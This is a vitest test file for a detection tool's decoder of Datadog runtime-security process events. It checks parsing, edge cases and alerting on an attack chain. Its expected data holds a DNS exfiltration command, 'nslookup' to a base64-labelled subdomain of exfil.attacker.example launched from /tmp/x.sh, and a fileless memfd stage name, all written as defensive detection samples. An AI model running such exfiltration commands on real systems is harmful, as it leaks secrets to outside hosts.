import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { DecodeOutput, RawRecord } from "../../../lib/telemetry/decoder.js";
import type { ExecEvent } from "../../../lib/telemetry/exec-event.js";
import { datadogCwsDecoder } from "../../../lib/telemetry/sources/datadog-cws.js";
import { ecsDecoder } from "../../../lib/telemetry/sources/ecs.js";
import { ocsfProcessDecoder } from "../../../lib/telemetry/sources/ocsf-process.js";
import { detect } from "../../helpers/exec-events.js";
import { assertSurvivesMutations } from "../../helpers/fuzz-json.js";
import { readSample } from "../../helpers/samples.js";

const ctx = { defaultHost: "stream-host" };

// Raw text matters only for quarantine; a value too deep to stringify still gets a record.
const record = (value: unknown): RawRecord => {
  try {
    return { text: JSON.stringify(value) ?? "", line: 7 };
  } catch {
    return { text: "<too deep>", line: 7 };
  }
};
const decode = (value: unknown): DecodeOutput => datadogCwsDecoder.decode(value, record(value), ctx);
const eventOf = (value: unknown): ExecEvent => {
  const out = decode(value);
  if (out.kind !== "event") throw new Error(`${out.kind}: ${out.reason}`);
  return out.event;
};

type Json = Record<string, unknown>;

// Built from Datadog's published schema and the agent's serialisers: see test/fixtures/datadog/README.md.
const fixtureText = (name: string): string =>
  readFileSync(new URL(`../../fixtures/datadog/${name}`, import.meta.url), "utf8");
const texts = {
  fromScript: fixtureText("exec-nslookup-from-script.json"),
  forkClone: fixtureText("exec-nslookup-fork-clone.json"),
  exit: fixtureText("exit-nslookup.json"),
};
const fromScript = (): Json => JSON.parse(texts.fromScript);
const forkClone = (): Json => JSON.parse(texts.forkClone);
const exitEvent = (): Json => JSON.parse(texts.exit);

const proc = (value: Json): Json => value["process"] as Json;
const ancestorsOf = (value: Json): Json[] => proc(value)["ancestors"] as Json[];

const ms = (iso: string): number => Date.parse(iso);
const NSLOOKUP_FORK = ms("2025-03-04T10:15:30.501Z");
const NSLOOKUP_EXEC = ms("2025-03-04T10:15:30.509Z");
const SH_EXEC = ms("2025-03-04T10:15:29.950Z");
const DATE = ms("2025-03-04T10:15:30.512Z");

const EXPECTED_PARENT = {
  pid: 4242,
  executable: "/usr/bin/dash",
  args: ["sh", "/tmp/x.sh"],
  entityId: `web-01:4242:${SH_EXEC}`,
};
const EXPECTED_ANCESTORS = [
  { pid: 4100, executable: "/usr/bin/bash", args: ["-bash"] },
  { pid: 4000, executable: "/usr/sbin/sshd", args: ["sshd: alice [priv]"] },
  { pid: 1, executable: "/usr/lib/systemd/systemd", args: ["/sbin/init", "splash"] },
];

describe("datadogCwsDecoder on the schema-built fixtures", () => {
  it("decodes the exec of nslookup by sh /tmp/x.sh", () => {
    const value = fromScript();
    expect(datadogCwsDecoder.matches(value)).toBe(true);
    expect(eventOf(value)).toEqual({
      host: { name: "web-01" },
      user: { id: "1000", name: "alice", auditId: "1000" },
      process: {
        pid: 4243,
        ppid: 4242,
        executable: "/usr/bin/nslookup",
        // argv0 put back in front of args
        args: ["nslookup", "c2VjcmV0.exfil.attacker.example"],
        // fork_time: the process began before its exec
        start: NSLOOKUP_FORK,
        entityId: `web-01:4243:${NSLOOKUP_EXEC}`,
      },
      parent: EXPECTED_PARENT,
      ancestors: EXPECTED_ANCESTORS,
      time: DATE,
      source: { format: "datadog", eventId: `web-01:4243:${NSLOOKUP_EXEC}:/usr/bin/nslookup` },
    });
  });

  it("folds the fork copies the agent puts before each process", () => {
    const value = forkClone();
    expect(datadogCwsDecoder.matches(value)).toBe(true);
    const event = eventOf(value);
    expect(event.parent).toEqual(EXPECTED_PARENT);
    expect(event.ancestors).toEqual(EXPECTED_ANCESTORS);
    expect(event.process.ppid).toBe(4242);
  });

  it("folds them without is_thread too (agents that do not write it)", () => {
    const value = forkClone();
    for (const ancestor of ancestorsOf(value)) delete ancestor["is_thread"];
    const event = eventOf(value);
    expect(event.parent).toEqual(EXPECTED_PARENT);
    expect(event.ancestors).toEqual(EXPECTED_ANCESTORS);
  });

  it.each([
    ["ancestors[0] is sh /tmp/x.sh", fromScript],
    ["ancestors[0] is the fork of sh", forkClone],
  ])("turns the attack chain into an alert (%s), through the batch pipeline", async (_name, fixture) => {
    const { alerts } = await detect([eventOf(fixture())]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]?.utility.name).toBe("nslookup");
    // Found from the ancestor's argv: Datadog's own rule looks at executables only and misses it.
    expect(alerts[0]?.location).toMatchObject({ path: "/tmp/x.sh", kind: "script", depth: 1 });
  });

  it("turns an exit into a process exit for the same image", () => {
    const value = exitEvent();
    expect(datadogCwsDecoder.matches(value)).toBe(true);
    const out = decode(value);
    expect(out).toEqual({
      kind: "skipped",
      line: 7,
      reason: "datadog: process exit",
      exit: {
        host: "web-01",
        pid: 4243,
        time: ms("2025-03-04T10:15:30.731Z"),
        entityId: `web-01:4243:${NSLOOKUP_EXEC}`,
      },
    });
    // The exit names the image the exec recorded, so eviction cannot hit a later holder of the pid.
    expect(out.kind === "skipped" ? out.exit?.entityId : undefined).toBe(
      eventOf(fromScript()).process.entityId,
    );
  });
});

describe("datadogCwsDecoder traps", () => {
  const edited = (edit: (value: Json) => void, base: () => Json = fromScript): Json => {
    const value = base();
    edit(value);
    return value;
  };

  it.each([
    ["ISO with nanoseconds", (v: Json) => (v["date"] = "2025-03-04T10:15:30.512345678Z"), DATE],
    ["ISO with an offset", (v: Json) => (v["date"] = "2025-03-04T11:15:30.512999+01:00"), DATE],
    ["epoch ms", (v: Json) => (v["date"] = DATE), DATE],
    ["epoch seconds", (v: Json) => (v["date"] = DATE / 1000), DATE],
    ["epoch ns as a string", (v: Json) => (v["date"] = `${DATE}345678`), DATE],
    [
      "the log's @timestamp",
      (v: Json) => {
        delete v["date"];
        v["@timestamp"] = "2025-03-04T10:15:30.512Z";
      },
      DATE,
    ],
    ["exec_time when there is no date at all", (v: Json) => delete v["date"], NSLOOKUP_EXEC],
  ])("event time: %s", (_name, edit, expected) => {
    expect(eventOf(edited(edit)).time).toBe(expected);
  });

  it.each([
    ["fork before exec: the fork", "2025-03-04T10:15:30.501Z", "2025-03-04T10:15:30.509Z", NSLOOKUP_FORK],
    [
      "fork after exec (clock skew): the earlier",
      "2025-03-04T10:15:30.600Z",
      "2025-03-04T10:15:30.509Z",
      NSLOOKUP_EXEC,
    ],
    ["no fork_time: the exec", undefined, "2025-03-04T10:15:30.509Z", NSLOOKUP_EXEC],
    ["neither", undefined, undefined, undefined],
  ])("process start, %s", (_name, fork, exec, expected) => {
    const value = fromScript();
    if (fork === undefined) delete proc(value)["fork_time"];
    else proc(value)["fork_time"] = fork;
    if (exec === undefined) delete proc(value)["exec_time"];
    else proc(value)["exec_time"] = exec;
    const event = eventOf(value);
    expect(event.process.start).toBe(expected);
    // Without exec_time there is no image id.
    expect(event.process.entityId === undefined).toBe(exec === undefined);
  });

  it.each([
    ["empty ancestors", { ancestors: [] }, 4242],
    ["no ancestors, no parent", {}, 4242],
    ["no ancestors, no ppid", { ppid: undefined }, 0],
  ])("keeps an exec with %s, without a parent", (_name, changes: Json, ppid) => {
    const value = fromScript();
    delete proc(value)["ancestors"];
    delete proc(value)["parent"];
    Object.assign(proc(value), changes);
    const event = eventOf(JSON.parse(JSON.stringify(value)));
    expect(event.parent).toBeUndefined();
    expect(event.ancestors).toBeUndefined();
    expect(event.process.ppid).toBe(ppid);
  });

  it("uses process.parent when there are no ancestors", () => {
    const value = fromScript();
    delete proc(value)["ancestors"];
    const event = eventOf(value);
    expect(event.parent).toEqual(EXPECTED_PARENT);
    expect(event.ancestors).toBeUndefined();
  });

  it("lets a fork copy that ends a cut list stand for the process it copies", () => {
    const value = forkClone();
    // truncated_ancestors: the list stops right after nslookup's fork of sh.
    proc(value)["ancestors"] = ancestorsOf(value).slice(0, 1);
    proc(value)["truncated_ancestors"] = true;
    expect(eventOf(value).parent).toEqual({
      pid: 4242,
      executable: "/usr/bin/dash",
      entityId: `web-01:4242:${SH_EXEC}`,
    });
  });

  it.each([
    ["args_truncated", (p: Json) => (p["args_truncated"] = true), true],
    ["argv_truncated", (p: Json) => (p["argv_truncated"] = true), true],
    ["more args than kept", (p: Json) => (p["args"] = Array.from({ length: 5000 }, (_, i) => `a${i}`)), true],
    ["complete args", () => undefined, undefined],
  ])("argsTruncated from %s", (_name, edit, expected) => {
    const value = fromScript();
    edit(proc(value));
    const event = eventOf(value);
    expect(event.process.argsTruncated).toBe(expected);
    expect(event.process.args.length).toBeLessThanOrEqual(4096);
  });

  it.each([
    ["argv0 and args", "nslookup", ["x.example"], ["nslookup", "x.example"]],
    ["args without argv0 (it was empty)", undefined, ["x.example"], ["", "x.example"]],
    ["argv0 only", "nslookup", undefined, ["nslookup"]],
    ["neither", undefined, undefined, []],
  ])("argv from %s", (_name, argv0, args, expected) => {
    const value = fromScript();
    delete proc(value)["argv0"];
    delete proc(value)["args"];
    if (argv0 !== undefined) proc(value)["argv0"] = argv0;
    if (args !== undefined) proc(value)["args"] = args;
    expect(eventOf(value).process.args).toEqual(expected);
  });

  it.each(["fork", "open", "connect", "dns", "signal"])("skips a %s event", (name) => {
    const value = fromScript();
    value["evt"] = { name, category: "Process Activity" };
    expect(decode(value)).toEqual({
      kind: "skipped",
      line: 7,
      reason: `datadog: evt.name "${name}" is not an exec`,
    });
  });

  it.each(["Error", "Refused"])("skips an exec whose outcome is %s", (outcome) => {
    const value = fromScript();
    (value["evt"] as Json)["outcome"] = outcome;
    expect(decode(value)).toMatchObject({ kind: "skipped", reason: "datadog: failed exec" });
  });

  it("takes a script's interpreter as the executable and the script as invoked", () => {
    const value = fromScript();
    proc(value)["executable"] = { path: "/tmp/x.sh", name: "x.sh" };
    proc(value)["interpreter"] = { path: "/usr/bin/dash", name: "dash" };
    proc(value)["argv0"] = "/tmp/x.sh";
    proc(value)["args"] = [];
    expect(eventOf(value).process).toMatchObject({
      executable: "/usr/bin/dash",
      invokedPath: "/tmp/x.sh",
      script: "/tmp/x.sh",
      args: ["/tmp/x.sh"],
    });
  });

  it("names a fileless image by its memfd name", async () => {
    const value = fromScript();
    ancestorsOf(value)[0]!["executable"] = { name: "memfd:stage2", path: "" };
    (proc(value)["parent"] as Json)["executable"] = { name: "memfd:stage2" };
    const event = eventOf(value);
    expect(event.parent?.executable).toBe("memfd:stage2");
    const { alerts } = await detect([event]);
    expect(alerts[0]?.location).toMatchObject({ path: "memfd:stage2", kind: "ancestor", tier: "fileless" });
  });

  it("falls back to the basename when the path could not be resolved", () => {
    const value = fromScript();
    proc(value)["executable"] = { name: "nslookup", path_resolution_error: "path not found" };
    expect(eventOf(value).process.executable).toBe("nslookup");
  });

  it("keeps a fork that never exec'd (a subshell) as the parent, with its parent's image and argv", () => {
    // `( nslookup … )` typed in the login shell: bash 4100 forks subshell 4300, which forks 4301 to exec.
    const value = forkClone();
    const bash = ancestorsOf(value)[3]!;
    const forkOf = (pid: number, ppid: number): Json => {
      const copy: Json = JSON.parse(JSON.stringify(bash));
      Object.assign(copy, { pid, tid: pid, ppid, is_thread: true });
      delete copy["argv0"];
      delete copy["args"];
      return copy;
    };
    proc(value)["pid"] = 4301;
    proc(value)["ppid"] = 4300;
    proc(value)["ancestors"] = [forkOf(4301, 4300), forkOf(4300, 4100), ...ancestorsOf(value).slice(3)];
    const event = eventOf(value);
    expect(event.parent).toEqual({
      pid: 4300,
      executable: "/usr/bin/bash",
      args: ["-bash"],
      entityId: `web-01:4300:${ms("2025-03-04T09:00:01.250Z")}`,
    });
    expect(event.ancestors).toEqual(EXPECTED_ANCESTORS);
  });

  it("keeps the image a script exec'd from, as the nearest ancestor", async () => {
    // `exec nslookup …` at the end of /tmp/x.sh: the same pid, first sh, then nslookup.
    const value = forkClone();
    proc(value)["pid"] = 4242;
    proc(value)["ppid"] = 4100;
    proc(value)["ancestors"] = ancestorsOf(value).slice(1);
    const event = eventOf(value);
    expect(event.parent).toBeUndefined();
    expect(event.process.ppid).toBe(4100);
    expect(event.ancestors?.map((a) => [a.pid, a.executable])).toEqual([
      [4242, "/usr/bin/dash"],
      [4100, "/usr/bin/bash"],
      [4000, "/usr/sbin/sshd"],
      [1, "/usr/lib/systemd/systemd"],
    ]);
    const { alerts } = await detect([event]);
    expect(alerts[0]?.location).toMatchObject({ path: "/tmp/x.sh", kind: "script" });
  });

  it("reads the container and its image from the log's tags", () => {
    const value = fromScript();
    proc(value)["container"] = { id: "4f1a9c0b2d3e", created_at: "2025-03-04T09:00:00Z" };
    value["tags"] = ["source:runtime-security-agent", "image_name:nginx", "image_tag:1.27"];
    expect(eventOf(value).container).toEqual({ id: "4f1a9c0b2d3e", image: "nginx:1.27" });
  });

  it("reads an event nested in a Logs API v2 record", () => {
    const event = fromScript();
    delete event["host"];
    delete event["date"];
    const value = {
      id: "AQAAAZVhm2s9aBcDeFgHiJ",
      type: "log",
      attributes: {
        attributes: event,
        host: "web-07",
        service: "runtime-security-agent",
        timestamp: "2025-03-04T10:15:30.512Z",
        tags: ["image_name:nginx"],
      },
    };
    expect(datadogCwsDecoder.matches(value)).toBe(true);
    const decoded = eventOf(value);
    expect(decoded.host).toEqual({ name: "web-07" });
    expect(decoded.time).toBe(DATE);
    expect(decoded.source.eventId).toBe("AQAAAZVhm2s9aBcDeFgHiJ");
  });

  it("reads an event nested under a log archive's attributes", () => {
    const event = fromScript();
    delete event["host"];
    const value = { _id: "archived-1", date: "2025-03-04T10:15:31.000Z", host: "web-09", attributes: event };
    expect(datadogCwsDecoder.matches(value)).toBe(true);
    const decoded = eventOf(value);
    expect(decoded.host.name).toBe("web-09");
    // The event's own date wins over the log's.
    expect(decoded.time).toBe(DATE);
    expect(decoded.source.eventId).toBe("archived-1");
  });

  it("uses the default host when the export has none", () => {
    const value = fromScript();
    delete value["host"];
    expect(eventOf(value).host).toEqual({ name: "stream-host" });
  });
});

describe("datadogCwsDecoder on hostile data", () => {
  const withProcess = (edit: (p: Json) => void): Json => {
    const value = fromScript();
    edit(proc(value));
    return value;
  };

  it.each([
    ["not an object", "exec", "datadog: record is not a JSON object"],
    ["evt missing", { process: { pid: 1 } }, "datadog: evt is missing"],
    ["evt.name a number", { evt: { name: 1 }, process: {} }, "datadog: evt.name is not a string"],
    [
      "process missing",
      { evt: { name: "exec" }, date: "2025-03-04T10:15:30Z" },
      "datadog: process is missing",
    ],
    ["date garbage", { ...fromScript(), date: "soon" }, "datadog: date is not a date"],
    ["pid missing", withProcess((p) => delete p["pid"]), "datadog: process.pid is missing"],
    ["pid negative", withProcess((p) => (p["pid"] = -4)), "datadog: process.pid is not a number"],
    ["ppid a word", withProcess((p) => (p["ppid"] = "parent")), "datadog: process.ppid is not a number"],
    [
      "executable a string",
      withProcess((p) => (p["executable"] = "/usr/bin/nslookup")),
      "datadog: process.executable is not an object",
    ],
    [
      "ancestors an object",
      withProcess((p) => (p["ancestors"] = {})),
      "datadog: process.ancestors is not an array",
    ],
    ["args a string", withProcess((p) => (p["args"] = "x.example")), "datadog: process.args is not an array"],
    [
      "args holding an object",
      withProcess((p) => (p["args"] = ["x", {}])),
      "datadog: process.args[1] is not a string",
    ],
    [
      "no executable at all",
      withProcess((p) => {
        delete p["executable"];
        delete p["comm"];
      }),
      "datadog: process.executable.path is missing",
    ],
  ])("%s → malformed", (_name, value, reason) => {
    expect(decode(value)).toMatchObject({ kind: "malformed", reason });
  });

  it("ignores ancestors that are not objects or name no file", () => {
    const value = fromScript();
    proc(value)["ancestors"] = [null, 7, { pid: 9 }, ...ancestorsOf(fromScript())];
    const event = eventOf(value);
    expect(event.parent).toEqual({ pid: 9 });
    expect(event.ancestors?.[0]).toEqual({
      pid: 4242,
      executable: "/usr/bin/dash",
      args: ["sh", "/tmp/x.sh"],
    });
  });

  it("matches CWS events only, and no other source's", () => {
    expect(datadogCwsDecoder.matches({ evt: { name: "exec" }, process: { pid: 1 } })).toBe(false);
    expect(datadogCwsDecoder.matches({ evt: { name: "exec" }, process: { pid: 1, ancestors: [] } })).toBe(
      true,
    );
    const ecs = JSON.parse(readSample("upstream/ecs/beats_auditbeat_auditd_meta_execve.json"));
    const ocsf = JSON.parse(readSample("upstream/ocsf/ocsf-docs_process_activity_launch_1007.json"));
    expect(datadogCwsDecoder.matches(ecs)).toBe(false);
    expect(datadogCwsDecoder.matches(ocsf)).toBe(false);
    expect(ecsDecoder.matches(fromScript())).toBe(false);
    expect(ocsfProcessDecoder.matches(fromScript())).toBe(false);
    expect(ecsDecoder.matches(exitEvent())).toBe(false);
  });

  it("never throws, whatever the value", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(["event", "skipped", "malformed"]).toContain(decode(value).kind);
      }),
    );
  });

  it("never throws on evt and process objects holding anything", () => {
    fc.assert(
      fc.property(fc.anything(), fc.anything(), fc.constantFrom("exec", "exit", "open"), (p, a, name) => {
        const value = { evt: { name }, process: p, attributes: a };
        expect(["event", "skipped", "malformed"]).toContain(decode(value).kind);
      }),
    );
  });

  it.each([
    ["exec-nslookup-from-script.json", fromScript()],
    ["exec-nslookup-fork-clone.json", forkClone()],
    ["exit-nslookup.json", exitEvent()],
  ])("never throws when any field of %s holds anything", (_name, fixture) => {
    assertSurvivesMutations(fixture, decode);
  });
});
